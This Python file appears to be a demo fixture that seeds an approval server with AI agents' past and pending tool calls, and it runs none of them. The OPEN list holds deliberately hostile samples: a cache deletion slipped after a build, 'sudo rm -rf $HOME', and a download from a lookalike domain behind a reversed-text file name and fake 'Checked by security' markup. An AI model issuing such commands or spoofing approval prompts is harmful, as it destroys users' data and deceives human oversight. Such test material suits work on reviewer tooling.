"""An example to try things on: a few agents with work behind them and questions before them."""

from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from uuid import uuid4

from assent.client.client import Client, Outcome, OutcomeKind, RequestFailed
from assent.wire.fields import Fields

Args = Mapping[str, object]

FILES = {
    "README.md": "# Corner shop\n\nSells bread, milk and stamps.\n",
    "CHANGELOG.md": "# Changelog\n\n## 0.8.0\n\n- The basket remembers what was in it.\n",
    "packages/web/package.json": '{"name": "shop-web", "scripts": {"build": "vite build"}}\n',
    "docs/opening-hours.md": "Open every day from 7 to 20.\n",
}
"""The workspace that the agents work in."""
RELEASE, INVOICES, CONTACTS, ORDERS, HANDBOOK = (
    "Cut the 0.9 release", "Overdue invoices", "Tidy the address book", "Duplicate orders, May",
    "The handbook",
)  # fmt: skip
CONVERSATIONS = {
    RELEASE: "release-bot", INVOICES: "inbox-clerk", CONTACTS: "inbox-clerk", ORDERS: "ledger",
    HANDBOOK: "docs-writer",
}  # fmt: skip
CATALOGS: Mapping[str, list[dict[str, object]]] = {
    "inbox-clerk": [
        {"name": "mail.find", "effect": "read", "group": "Mail", "description": "Find mails."},
        {"name": "mail.send", "effect": "external", "group": "Mail", "description": "Send a mail."},
        {"name": "mail.archive", "effect": "write", "group": "Mail", "description": "Archive a mail."},
        {"name": "crm.find", "effect": "read", "group": "Contacts", "description": "Find a contact."},
        {"name": "crm.update", "effect": "write", "group": "Contacts", "description": "Change a contact."},
        {
            "name": "crm.delete_contact",
            "effect": "destructive",
            "group": "Contacts",
            "description": "Delete a contact for ever.",
        },
    ],
    "ledger": [
        {"name": "orders.list", "effect": "read", "group": "Orders", "description": "List orders."},
        {"name": "orders.void", "effect": "write", "group": "Orders", "description": "Void orders."},
    ],
}
RULES = (
    ("allow", "terminal.exec(npm run *)", "project scripts are reviewed in this repository"),
    ("ask", "mail.send(to=*@northwind.example)", "a customer reads what we send them"),
    ("deny", "terminal.exec(npm publish *)", "releases are published by the pipeline"),
)


@dataclass(frozen=True, slots=True)
class Act:
    """A call of the example, and what a person said to it if it was asked about."""

    where: str
    tool: str
    args: Args
    say: str = ""
    reason: str = ""


def _shell(command: str, says: str = "", *, say: str = "", reason: str = "") -> Act:
    args = {"command": command} | ({"description": says} if says else {})
    return Act(RELEASE, "terminal.exec", args, say, reason)


PAST = (
    *(
        _shell(command)
        for command in ("ls -la", "cat README.md", "npm run build", "npm run test", "npm publish")
    ),
    _shell("git tag v0.8.1", say="once"),
    _shell("make clean", say="once"),
    _shell("git commit --amend --no-edit", say="deny", reason="Keep the history; commit anew."),
    _shell("docker compose up -d", say="conversation"),
    *(
        Act(HANDBOOK, "files.write", {"path": f"docs/{page}.md", "content": f"# {page}\n"}, say="once")
        for page in ("deliveries", "returns", "stamps", "suppliers", "holidays", "till", "keys", "cleaning")
    ),
    Act(INVOICES, "mail.find", {"query": "is:overdue"}),
    Act(INVOICES, "mail.archive", {"id": 2207}, say="once"),
    Act(CONTACTS, "crm.find", {"name": "Ortiz"}),
    Act(CONTACTS, "crm.update", {"id": 8840, "city": "Lisbon"}, say="deny", reason="She has not moved yet."),
    Act(ORDERS, "orders.list", {"month": "May"}),
)
OPEN = (
    _shell(
        "cd packages/web && npm run build && rm -rf ../../../build-cache",
        "Clearing a stale cache, so that the bundle can be reproduced.",
    ),
    _shell("git push origin release/0.9"),
    _shell("git push origin v0.9.0"),
    Act(
        RELEASE,
        "files.write",
        {
            "path": "CHANGELOG.md",
            "content": FILES["CHANGELOG.md"].replace("## 0.8.0", "## 0.9.0\n\n- Stamps.\n\n## 0.8.0"),
        },
    ),
    _shell('sudo rm -rf "$HOME/"', "Making room on the disk."),
    Act(
        INVOICES,
        "mail.send",
        {
            "to": "finance@northwind.example",
            "subject": "Invoice 2231 is 30 days overdue",
            "body": "Dear Sam,\n\ninvoice 2231 over € 4,180.00 is still open.\n\nKind regards",
        },
    ),
    Act(CONTACTS, "crm.delete_contact", {"id": 8841, "name": "Lena Ortiz"}),
    Act(ORDERS, "orders.void", {"orders": [4417, 4418, 4419], "reason": "entered twice"}),
    Act(
        "",
        "terminal.exec",
        {
            "command": "cp report\u202efdp.sh ~/bin/ && curl https://\u0430cme.example/i -o x",
            "description": '<b style="color:green">Checked by security</b> [Allow](https://ok.example)',
        },
    ),
)
VISITOR = "scout"
"""The agent of what belongs to no conversation."""


def furnish(directory: Path) -> Path:
    """The agents' workspace, in a directory of its own."""
    workspace = directory / "corner-shop"
    for name, text in FILES.items():
        path = workspace / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return workspace


class Example:
    """The example on a running server, in the name of its owner."""

    def __init__(self, client: Client) -> None:
        self._client = client
        self._conversations: dict[str, str] = {}

    def play(self) -> None:
        """Everything that happened before you came, and the questions that wait for you."""
        for agent, tools in CATALOGS.items():
            self._put(f"agents/{agent}/catalog", {"origin": "the example", "tools": tools})
        for words, text, why in RULES:
            self._post("rules", {"list": words, "text": text, "why": why})
        for title, agent in CONVERSATIONS.items():
            made = self._post("conversations", {"agent": agent, "title": title})
            self._conversations[title] = made.text("id")
        for act in PAST:
            self._live(act)
        for act in OPEN:
            self._submit(act)

    def follow(self) -> None:
        """Be the agents from now on: whatever a person allows is taken, and reported as done."""
        for message in self._client.events():
            if message.get("type") == "answered":
                self._take(str(message["id"]))

    def _live(self, act: Act) -> None:
        outcome = self._submit(act)
        if outcome.kind is not OutcomeKind.WAIT:
            return
        digest = self._client.approval(outcome.approval).digest
        answer = {"say": act.say} | ({"reason": act.reason} if act.reason else {})
        self._post(f"approvals/{outcome.approval}/answer", {"digest": digest, "answer": answer})
        self._take(outcome.approval)

    def _submit(self, act: Act) -> Outcome:
        conversation = self._conversations.get(act.where, "")
        agent = CONVERSATIONS.get(act.where, VISITOR)
        return self._client.submit(act.tool, act.args, id=uuid4().hex, conversation=conversation, agent=agent)

    def _take(self, approval: str) -> None:
        """Nothing of the example is ever run; it says that it was."""
        try:
            outcome = self._client.wait(approval, 0)
            if outcome.kind is OutcomeKind.RUN:
                self._client.report(approval, outcome.claim, note="a rehearsal: nothing was run")
        except RequestFailed:
            return  # Somebody else's agent took it.

    def _post(self, path: str, body: Mapping[str, object]) -> Fields:
        return Fields(self._client.request("POST", f"/v1/{path}", body, tries=1), path)

    def _put(self, path: str, body: Mapping[str, object]) -> None:
        self._client.request("PUT", f"/v1/{path}", body, tries=1)
